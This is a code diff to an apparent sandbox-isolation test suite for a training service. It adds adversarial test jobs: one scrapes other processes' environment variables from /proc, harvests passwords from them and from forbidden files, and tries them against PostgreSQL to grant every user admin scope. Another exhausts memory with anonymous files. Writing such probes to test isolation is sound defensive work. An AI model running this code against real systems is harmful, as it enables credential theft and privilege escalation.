@@ -10,6 +10,7 @@ import os
 import resource
 import sqlite3
 import sys
+import time
 from collections.abc import Callable, Iterator
 from pathlib import Path
 
@@ -22,11 +23,12 @@ LIBC = ctypes.CDLL(None, use_errno=True)
 
 
 class Thief(Regression):
-    """`paths` are files that are none of its business, joined by "|"."""
+    """`paths` are files that are none of its business, joined by "|"; `database` says where PostgreSQL is."""
 
-    def __init__(self, paths: str = "") -> None:
+    def __init__(self, paths: str = "", database: str = "") -> None:
         super().__init__()
         self._paths = [Path(path) for path in paths.split("|") if path]
+        self._database = database.replace("|", " ")
 
     def model(self) -> torch.nn.Module:
         sys.stdout.write(f"SEEN {json.dumps(self._look())}\n")
@@ -34,7 +36,10 @@ class Thief(Regression):
         raise RuntimeError("there is nothing to train here")
 
     def _look(self) -> dict:
+        helpers = _spied()
         return {
+            "helpers": helpers,
+            "postgres": _postgres(self._database, [*self._paths], helpers) if self._database else {},
             "read": [str(path) for path in self._paths if _works(lambda path=path: _read(path))],
             "written": [str(path) for path in self._paths if _works(lambda path=path: _write(path))],
             "linked": [
@@ -54,6 +59,66 @@ class Thief(Regression):
             "setuid_root": _works(lambda: os.setuid(0)),
             "left": _leave(),
         }
+
+
+def _spied(seconds: float = 3.0) -> list[str]:
+    """What the environments of other processes of this user say, while what counts its files is made to run."""
+    found: set[str] = set()
+    own, waste = {os.getpid(), os.getppid()}, Path(os.environ["TMPDIR"]) / "waste"
+    end_s = time.monotonic() + seconds
+    with waste.open("wb", buffering=0) as file:
+        while time.monotonic() < end_s:
+            if file.tell() < 48 << 20:
+                file.write(bytes(1 << 20))
+            for path in Path("/proc").glob("[0-9]*/environ"):
+                if int(path.parent.name) in own:
+                    continue
+                try:
+                    found.update(path.read_bytes().decode(errors="replace").split("\0"))
+                except OSError:
+                    continue
+    waste.unlink()
+    return sorted(line for line in found if line)
+
+
+def _postgres(database: str, paths: list[Path], helpers: list[str]) -> dict:
+    """Tries to become an administrator with every password that is within reach."""
+    import psycopg
+
+    guesses = {"", "steptune", "postgres", *(line.partition("=")[2] for line in [*helpers, *_texts(paths)])}
+    guesses |= {text for path in Path("/proc").glob("[0-9]*/environ") for text in _texts([path])}
+    tried: dict[str, list[str]] = {"written": [], "said": []}
+    for password in sorted(guesses, key=len)[:40]:
+        try:
+            with psycopg.connect(database, password=password, connect_timeout=5) as connection:
+                connection.execute("UPDATE users SET scopes = 'admin'")
+                tried["written"].append(password)
+        except (psycopg.Error, ValueError) as error:
+            tried["said"].append(str(error))
+    return tried
+
+
+def _texts(paths: list[Path]) -> list[str]:
+    found = []
+    for path in paths:
+        try:
+            text = path.read_bytes()[:4096].decode(errors="replace")
+        except OSError:
+            continue
+        found += [*text.replace("\0", "\n").split("\n")]
+    return [word.partition("=")[2] or word for word in found if word]
+
+
+class Hoarder(Regression):
+    """Holds two GiB in files without a name, of which none is mapped."""
+
+    def model(self) -> torch.nn.Module:
+        files = [os.memfd_create(str(number)) for number in range(64)]
+        for file in files:
+            for _ in range(8):
+                os.write(file, bytes(4 << 20))
+        time.sleep(300)
+        return super().model()
 
 
 def _works(deed: Callable[[], object]) -> bool:
